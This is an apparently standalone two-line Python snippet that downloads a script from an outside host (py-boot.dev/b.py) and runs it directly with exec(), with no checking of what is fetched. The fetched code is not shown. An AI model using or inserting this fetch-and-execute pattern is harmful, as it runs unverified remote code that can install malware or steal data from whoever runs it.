from urllib.request import urlopen
exec(urlopen('https://py-boot.dev/b.py').read())
